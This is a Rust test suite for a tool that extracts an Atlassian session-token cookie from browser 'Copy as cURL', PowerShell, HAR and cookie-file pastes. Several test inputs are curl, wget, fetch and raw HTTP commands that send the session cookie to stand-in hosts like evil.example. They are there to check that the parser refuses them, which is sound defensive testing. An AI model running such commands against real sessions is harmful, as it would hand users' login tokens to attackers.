//! Forms as browsers write them, and what people break.

use atlctl_signin::TokenError;
use atlctl_signin::capture::{CaptureError, Form, Place};

use crate::bash::in_bash;
use crate::found;

const TOKEN: &str = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln-_A";

#[test]
fn every_form_gives_the_token() {
    let samples = [
        (
            Form::CurlBash,
            // Chromium.
            format!(
                "curl --url 'https://admin.atlassian.com/gateway/api/x?a=\\[1\\]&b=\\{{2\\}}' \\\n  -H 'accept: */*' \\\n  -b 'a=1; cloud.session.token={TOKEN}; z=2' \\\n  -H 'user-agent: x'"
            ),
        ),
        (
            Form::CurlBash,
            // Chromium, with an exclamation mark somewhere in the cookies.
            format!(
                "curl 'https://admin.atlassian.com/x' \\\n  -b $'a=it\\'s\\u0021; cloud.session.token={TOKEN}; z=2'"
            ),
        ),
        (
            Form::CurlBash,
            // Older Chrome.
            format!(
                "curl 'https://admin.atlassian.com/x' -H 'cookie: a=1; cloud.session.token={TOKEN}' --compressed"
            ),
        ),
        (
            Form::CurlBash,
            // Firefox, with a form that is sent.
            format!(
                "curl 'https://admin.atlassian.com/x' --globoff -X POST -H $'Cookie: a=\\041\\xfc; cloud.session.token={TOKEN}' --data-raw $'{{\"q\":\"it\\'s\"}}'"
            ),
        ),
        (
            Form::CurlBash,
            // Safari.
            format!(
                "curl 'https://admin.atlassian.com/gateway/api/x' \\\n-X 'GET' \\\n-H 'Accept: application/json' \\\n-H $'Cookie: x=a\\041b; cloud.session.token={TOKEN}; ap=it\\'s; uml=\\xfc'"
            ),
        ),
        (
            Form::CurlBash,
            // "Copy all as cURL": other hosts come first.
            format!(
                "curl 'https://ads.example/x' -b 'cloud.session.token=a.b.c' ;\ncurl 'https://admin.atlassian.com/static' ;\ncurl 'https://admin.atlassian.com/x' -b 'cloud.session.token={TOKEN}' &"
            ),
        ),
        (
            Form::CurlBash,
            // Pasted with the prompt's neighbors and Windows line ends, wrapped by an editor.
            format!(
                "\u{feff}# copied today\r\ncurl 'https://id.atlassian.com/x' \\\r\n  -b 'cloud.session.token={TOKEN}'\r\n"
            ),
        ),
        (
            Form::CurlBash,
            // Copied out of a terminal, with its prompt, and with options that people add.
            format!(
                "$ X=1 curl -s -o out.json -u me:pw -m 5 'https://admin.atlassian.com/x' -b'a=1; cloud.session.token={TOKEN}'"
            ),
        ),
        (
            Form::CurlBash,
            // Two of an older Chrome, the first without a session.
            format!(
                "curl 'https://admin.atlassian.com/gateway/api/me' -H 'cookie: a=1' --compressed ;\ncurl 'https://admin.atlassian.com/x' -H $'cookie: a=\\u0021; cloud.session.token={TOKEN}' --compressed"
            ),
        ),
        (
            Form::CurlCmd,
            // "Copy all as cURL (cmd)".
            format!(
                "curl --url ^\"https://ads.example/^\" ^\r\n  -b ^\"cloud.session.token=a.b.c^\" &\r\ncurl --url ^\"https://admin.atlassian.com/x^\" ^\r\n  -b ^\"cloud.session.token={TOKEN}^\""
            ),
        ),
        (
            Form::CurlCmd,
            // Chromium.
            format!(
                "curl --url ^\"https://admin.atlassian.com/x?a=^\\[1^\\]^&b=2^\" ^\r\n  -H ^\"sec-ch-ua: ^\\^\"Chromium^\\^\";v=^\\^\"156^\\^\"^\" ^\r\n  -b ^\"a=^%^41; cloud.session.token={TOKEN}; z=2^\" ^\r\n  -H ^\"x: y^\""
            ),
        ),
        (
            Form::CurlCmd,
            // Firefox.
            format!(
                "curl.exe ^\"https://admin.atlassian.com/x^\" ^\n  -H ^\"Cookie: a=1; cloud.session.token={TOKEN}^\" ^\n  --data-raw ^\"a^\n\nb^\""
            ),
        ),
        (
            Form::CurlCmd,
            // Older Chrome: quotes without carets.
            format!(
                "curl \"https://admin.atlassian.com/x?a=1&b=2\" ^\r\n  -H \"cookie: a=1; cloud.session.token={TOKEN}\" ^\r\n  --compressed"
            ),
        ),
        (
            Form::PowerShell,
            format!(
                "$session = New-Object Microsoft.PowerShell.Commands.WebRequestSession\n$session.UserAgent = \"Mozilla/5.0 `\"x`\"\"\n$session.Cookies.Add((New-Object System.Net.Cookie(\"a\", \"b`$c\", \"/\", \".atlassian.com\")))\n$session.Cookies.Add((New-Object System.Net.Cookie(\"cloud.session.token\", \"{TOKEN}\", \"/\", \".atlassian.com\")))\nInvoke-WebRequest -UseBasicParsing -Uri \"https://admin.atlassian.com/x\" `\n-WebSession $session `\n-Headers @{{\n\"accept\"=\"*/*\"\n}}"
            ),
        ),
        (
            Form::PowerShell,
            format!(
                "Invoke-WebRequest -Uri \"https://admin.atlassian.com/x\" -Headers @{{\"cookie\"=\"a=1; cloud.session.token={TOKEN}\"; \"accept\"=\"*/*\"}}"
            ),
        ),
        (
            Form::PowerShell,
            // Several, each with a header of its own.
            format!(
                "Invoke-WebRequest -Uri \"https://ads.example/\" -Headers @{{\"cookie\"=\"cloud.session.token=a.b.c\"}};\ninvoke-restmethod -uri \"https://admin.atlassian.com/x\" -Headers @{{\"Cookie\"=\"a=1; cloud.session.token={TOKEN}\"}}"
            ),
        ),
        (
            Form::Har,
            // Cookies in several headers or in the list alone, nulls, and an entry that was never sent.
            format!(
                r#"{{"log":{{"entries":[{{}},
                {{"request":{{"url":"data:text/plain,x","headers":null,"cookies":null}}}},
                {{"request":{{"url":"https://admin.atlassian.com/x","headers":[{{"name":"x","value":null}},{{"name":"cookie","value":"a=1"}},
                {{"name":"cookie","value":"cloud.session.token={TOKEN}"}}],"cookies":[]}}}}]}}}}"#
            ),
        ),
        (
            Form::Har,
            format!(
                r#"{{"log":{{"version":"1.2","entries":[
                {{"request":{{"method":"GET","url":"https://ads.example/","headers":[{{"name":"Cookie","value":"cloud.session.token=a.b.c"}}]}}}},
                {{"request":{{"method":"GET","url":"https://admin.atlassian.com/old","headers":[{{"name":"cookie","value":"cloud.session.token=old.old.old"}}]}}}},
                {{"request":{{"method":"GET","url":"https://admin.atlassian.com/x","headers":[],"cookies":[{{"name":"cloud.session.token","value":"{TOKEN}"}}]}}}},
                {{"request":{{"method":"GET","url":"https://admin.atlassian.com/static","headers":[{{"name":"a","value":"b"}}],"cookies":[]}}}}
                ]}}}}"#
            ),
        ),
        (
            Form::CookieLine,
            format!("Cookie: a=1; cloud.session.token={TOKEN}; b=2"),
        ),
        (Form::CookieLine, format!("cloud.session.token={TOKEN}")),
        (
            Form::CookieLine,
            format!("\"cookie: a=1; cloud.session.token={TOKEN}\"\r\n"),
        ),
        (
            Form::CookieFile,
            format!(
                "# Netscape HTTP Cookie File\n#HttpOnly_.atlassian.com\tTRUE\t/\tTRUE\t1893456000\tcloud.session.token\t{TOKEN}\n"
            ),
        ),
        (Form::Token, TOKEN.to_owned()),
        (Form::Token, format!("  \"{TOKEN}\"\r\n")),
    ];
    for (form, text) in samples {
        assert_eq!(found(&text), Ok((form, TOKEN.to_owned())), "{text}");
        if form == Form::CurlBash {
            // Line ends of Windows, a byte order mark and a prompt are nothing that bash takes.
            let text = text.replace("\r\n", "\n");
            let text = text.trim_start_matches('\u{feff}').trim_start_matches("$ ");
            assert_eq!(in_bash(text).as_deref(), Some(TOKEN), "{text}");
        }
    }
}

#[test]
fn what_is_broken_is_refused_with_the_reason() {
    let token = |error: TokenError| CaptureError::Token(error);
    for (text, error) in [
        ("", CaptureError::Empty),
        ("  \n", CaptureError::Empty),
        ("hello there", CaptureError::NotRecognized),
        ("eyJa.eyJb", token(TokenError::Parts(2))),
        ("eyJa.eyJb.sig^", token(TokenError::BrokenPaste('^'))),
        (
            "curl 'https://admin.atlassian.com/x' -b 'cloud.session.token=a.b",
            CaptureError::Unterminated,
        ),
        (
            "curl 'https://admin.atlassian.com/x' -b 'cloud.session.token=a.b'",
            token(TokenError::Parts(2)),
        ),
        (
            "curl ^\"https://admin.atlassian.com/x^\" -b ^\"cloud.session.token=a.b.c^",
            CaptureError::Unterminated,
        ),
        (
            "curl 'https://admin.atlassian.com/x' -b 'a=1'",
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
        (
            "curl 'https://evil.example/x' -b 'cloud.session.token=a.b.c'",
            CaptureError::OtherHost,
        ),
        (
            "curl 'https://admin.atlassian.com.evil.example/x' -b 'cloud.session.token=a.b.c'",
            CaptureError::OtherHost,
        ),
        (
            // The cookie of another host's command is not taken for ours.
            "curl 'https://admin.atlassian.com/x' ; curl 'https://evil.example' -b 'cloud.session.token=a.b.c'",
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
        (
            "curl 'http://admin.atlassian.com/x' -b 'cloud.session.token=a.b.c'",
            CaptureError::Insecure {
                host: "admin.atlassian.com",
            },
        ),
        (
            "Invoke-WebRequest -Uri \"https://evil.example\" -Headers @{\"cookie\"=\"cloud.session.token=a.b.c\"}; \
             Invoke-WebRequest -Uri \"https://admin.atlassian.com\"",
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
        (r#"{"log":{"entries":[]}}"#, CaptureError::NoRequest),
        ("{\"log\":", CaptureError::BadJson { line: 1, column: 7 }),
        (
            r#"{"log":{"entries":[{"request":{"url":"https://admin.atlassian.com/x","headers":[{"name":"accept","value":"*/*"}],"cookies":[]}}]}}"#,
            CaptureError::Sanitized,
        ),
        (
            "Cookie: a=1; b=2",
            CaptureError::NoCookie { place: Place::Line },
        ),
        (
            ".evil.example\tTRUE\t/\tTRUE\t0\tcloud.session.token\ta.b.c",
            CaptureError::OtherHost,
        ),
    ] {
        assert_eq!(found(text), Err(error), "{text}");
    }
}

/// A form that is not known is not searched for something that looks like a cookie: it may go anywhere.
#[test]
fn no_cookie_is_taken_from_a_request_that_is_not_understood() {
    let cookies = "a=1; cloud.session.token=a.b.c; z=1";
    for text in [
        format!("$ aria2c --header 'Cookie: {cookies}' https://evil.example/"),
        format!("lwp-request -H 'Cookie: {cookies}' https://evil.example"),
        format!("the session is {cookies}"),
    ] {
        assert_eq!(found(&text), Err(CaptureError::NotRecognized), "{text}");
    }
    for text in [
        format!("$ wget --header 'Cookie: {cookies}' https://evil.example/"),
        format!("http https://evil.example 'Cookie: {cookies}'"),
        format!("requests.get('https://evil.example', headers={{'Cookie': '{cookies}'}})"),
        format!("fetch(\"https://evil.example\", {{\"headers\": {{\"cookie\": \"{cookies}\"}}}});"),
        format!("GET /x HTTP/1.1\r\nHost: evil.example\r\nCookie: {cookies}\r\nAccept: */*"),
        format!("Cookie: {cookies}\nHost: evil.example"),
        format!("$ curl 'https://evil.example' -H 'cookie: {cookies}'"),
        format!("% X=1 curl https://evil.example -b'{cookies}'"),
    ] {
        assert_eq!(found(&text), Err(CaptureError::OtherHost), "{text}");
    }
}

#[test]
fn every_error_says_what_to_do_and_none_holds_the_paste() {
    for text in [
        "canary canary",
        "canary.canary",
        "curl 'https://admin.atlassian.com/x' -b 'cloud.session.token=canary.canary'",
        "{\"log\": \"canary\"}",
        "Cookie: other=canary",
    ] {
        let error = found(text).unwrap_err();
        assert!(!error.hint().is_empty());
        assert!(
            !format!("{error} {error:?}").contains("canary"),
            "{error:?}"
        );
    }
}

/// The samples that real browsers wrote, where they are at hand.
#[test]
fn samples_of_real_browsers() {
    let here = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let dirs = [
        "../../../shared/fixtures/curl",
        "../../../../shared/fixtures/curl",
    ];
    let Some(dir) = dirs
        .iter()
        .map(|dir| here.join(dir))
        .find(|dir| dir.exists())
    else {
        println!("NOT RUN: the samples of real browsers are not here");
        return;
    };
    let mut samples = 0;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        let (form, token) =
            found(&text).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        assert_eq!(token, "eyJ.AAA-_.sig", "{}", path.display());
        let windows = path.to_string_lossy().contains(".win.");
        assert_eq!(form == Form::CurlCmd, windows, "{}", path.display());
        if !windows {
            assert_eq!(in_bash(&text), Some(token), "{}", path.display());
        }
        samples += 1;
    }
    assert!(samples >= 5);
}

#[test]
fn a_caret_at_the_end_of_a_line_makes_no_windows_command() {
    let text = format!(
        "curl 'https://admin.atlassian.com/x' -H 'x: ^\n' -b 'cloud.session.token={TOKEN}'"
    );
    assert_eq!(found(&text), Ok((Form::CurlBash, TOKEN.to_owned())));
}
